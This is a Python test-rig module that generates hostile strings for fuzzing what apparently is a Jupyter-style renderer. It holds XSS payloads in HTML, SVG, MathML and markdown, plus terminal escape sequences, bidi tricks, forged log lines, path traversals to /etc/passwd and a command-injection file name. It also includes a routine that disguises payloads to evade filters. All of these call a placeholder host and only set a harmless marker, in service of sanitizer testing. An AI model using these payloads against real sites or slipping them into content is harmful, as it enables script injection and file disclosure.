"""Texts that would like to be more than text: in a page, a terminal, a log, a file name.

    python tests/rigs/hostile.py --count 20 --seed 3

Each text that could fetch something names the host :data:`HOST`, each that could run sets ``window.pwned``.
"""

from __future__ import annotations

import argparse
import itertools
import random
from dataclasses import dataclass

HOST = "foreign.invalid"
_RUN = "window.pwned=1"
_NAMES = (
    "body", "head", "cookie", "forms", "location", "jupyterapp", "jp-main-dock-panel", "__proto__", "constructor",
    "toString", "innerHTML", "attributes", "parentNode", "getElementById", "main", "root", "token", "baseUrl",
)  # fmt: skip
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
)
_TAGS = (
    "img",
    "video",
    "audio",
    "iframe",
    "embed",
    "object",
    "input",
    "link",
    "script",
    "body",
    "details",
    "marquee",
)

_FORMS: dict[str, tuple[str, ...]] = {
    "html": (
        "<{tag} src=//{host}/{n} {event}={run}>",
        "<{tag} src='//{host}/{n}' {event}='{run}'></{tag}>",
        "<script>{run}</script>",
        "<script src=//{host}/{n}.js></script>",
        "<SCRIPT>{run}//",
        "<iframe srcdoc='<script>parent.{run}</script>'>",
        "<base href=//{host}/>",
        "<meta http-equiv=refresh content='0;url=//{host}/{n}'>",
        "<link rel=stylesheet href=//{host}/{n}.css>",
        "<style>@import '//{host}/{n}'; * {{ background: url(//{host}/{n}) }}</style>",
        "<form action=//{host}><button autofocus>x</button></form>",
        "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
        '"><img src=x {event}={run}>',
        "'-->]]><img src=x {event}={run}>",
        "</title></textarea></style></script><img src=x {event}={run}>",
        "&lt;img src=x {event}={run}&gt; &#60;script&#62;{run}",
        "<template><img src=//{host}/{n}></template>",
        "<plaintext>",
        "<noscript><p title='</noscript><img src=x {event}={run}>'>",
        "{{{{constructor.constructor('{run}')()}}}} ${{{run}}} #{{{run}}} <%= {n} %>",
    ),
    "svg": (
        "<svg {event}={run}><circle r={n}></svg>",
        "<svg><script>{run}</script></svg>",
        "<svg><image href=//{host}/{n} /></svg>",
        "<svg><use href='//{host}/{n}#x'/></svg>",
        "<svg><animate onbegin={run} attributeName=x dur=1s>",
        "<svg><foreignObject><img src=x {event}={run}></foreignObject></svg>",
        "<svg><style>@import '//{host}/{n}'</style></svg>",
    ),
    "mathml": (
        "<math><mtext><table><mglyph><style><img src=x {event}={run}>",
        "<math href='javascript:{run}'>x</math>",
        "<math><annotation-xml encoding='text/html'><img src=//{host}/{n} {event}={run}></annotation-xml></math>",
        "<math><maction actiontype='statusline#//{host}' xlink:href='javascript:{run}'>x</maction></math>",
    ),
    "markdown": (
        "![x](//{host}/{n}.png)",
        "[x](javascript:{run})",
        "<http://{host}/{n}>",
        "[x]: //{host}/{n}\n[x]",
        "```html\n<img src=x {event}={run}>\n```",
        "`` ` <img src=x {event}={run}> ` ``",
        "# {n}\n\n| a | b |\n|---|---|\n| <b>x</b> | ![](//{host}/{n}) |",
        "$\\href{{javascript:{run}}}{{x}}$ $$\\unicode{{x{n}}}$$",
        "~~~\n</code></pre><img src=//{host}/{n}>",
    ),
    "terminal": (
        "\x1b[31mred {n}\x1b[0m\x1b[2J\x1b[H",
        "\x1b]8;;http://{host}/{n}\x07click\x1b]8;;\x07",
        "\x1b]8;;http://{host}/{n}\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]0;title {n}\x07\x1b]52;c;cm0gLXJm\x07",
        "\x9b31m{n}\x9d0;t\x9c\x90q\x9c",
        "\x1bP+q544e\x1b\\\x1b_x\x1b\\\x1b^{n}",
        "\x1b[6n\x1b[c\x1b[>c\x1b#8\x1bc{n}",
        "a\rb{n}\x08\x08\x7f\x0b\x0c",
        "\x1b[{n};{n}H\x1b[?1049h\x1b(0",
    ),
    "direction": (
        "\u202e{n}gpj.exe\u202c",
        "\u2066a\u2067{n}\u2069",
        "\u200f\u200e\u061c{n}\ufeff",
        "\U000e0041\U000e0042{n}\U000e007f",
        "a\u2028b\u2029{n}",
    ),
    "control": (
        "\x00{n}\x01\x02",
        "line {n}\n[C 2026-11-21 02:14:07 ServerApp] a line of its own",
        "line {n}\r\n\r\n[E] another",
        "{n}\x85\x1c\x1d\x1e",
        "\ud800{n}\udfff",
        "{n}" + "\u0301" * 60,
    ),
    "path": (
        "../../../../etc/passwd{n}",
        "/proc/self/environ/../{n}",
        "..\\..\\{n}",
        "file:///etc/passwd?{n}",
        "//{host}/{n}/a.ipynb",
        "http://{host}/{n}.ipynb",
        "javascript:{run}//{n}.ipynb",
        "data:text/html,<script>{run}</script>{n}",
        "\\\\{host}\\share\\{n}",
        "a/b\x00/{n}.ipynb",
        "~root/$(touch {n})/`id`;{n}|x&",
        "%2e%2e%2f{n}%00",
        "CON.{n}",
    ),
    "clobber": (
        "<img name={name}>",
        "<form id={name}><input name=attributes><input name={name}></form>",
        "<a id={name}><a id={name} name=url href=//{host}/{n}>",
        "<iframe name={name} src=//{host}/{n}>",
        "<object id={name} data=//{host}/{n}></object>",
        "{name}",
    ),
}
KINDS = tuple(_FORMS)


@dataclass(frozen=True)
class Hostile:
    """One text.

    Attributes:
        kind: One of :data:`KINDS`.
        text: The text itself.
    """

    kind: str
    text: str


def hostile_texts(count: int = 5000, seed: int = 1) -> list[Hostile]:
    """That many different texts, of all kinds alike; the same for the same seed."""
    choose = random.Random(seed)
    kinds = itertools.cycle(KINDS)
    found: dict[str, Hostile] = {}
    number = 0
    while len(found) < count:
        number += 1
        kind = next(kinds)
        form = choose.choice(_FORMS[kind])
        text = form.format(
            tag=choose.choice(_TAGS), event=choose.choice(_EVENTS), name=choose.choice(_NAMES),
            host=HOST, n=number, run=_RUN,
        )  # fmt: skip
        if choose.random() < 0.2:
            text = _disguised(text, choose)
        if text in found:
            text += f" {number}"
        found[text] = Hostile(kind, text)
    return list(found.values())


def _disguised(text: str, choose: random.Random) -> str:
    """The same with what filters are fooled by: another case, blanks, characters in between, another text around it."""
    how = choose.randrange(5)
    if how == 0:
        return "".join(c.upper() if choose.random() < 0.5 else c.lower() for c in text)
    if how == 1:
        return text.replace(" ", choose.choice(("/", "\t", "\x0c", "\u00a0")))
    if how == 2:
        return text.replace("<", choose.choice(("<\x00", "\uff1c", "<<", "\\u003c")))
    if how == 3:
        return f"2026-11-21 02:14:05: F file.cc:{choose.randrange(999)}] {text}"
    return text * choose.randrange(2, 5)


def main() -> int:
    """From the command line: print some."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=20)
    parser.add_argument("--seed", type=int, default=1)
    chosen = parser.parse_args()
    for hostile in hostile_texts(chosen.count, chosen.seed):
        print(f"{hostile.kind:10} {hostile.text!a}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
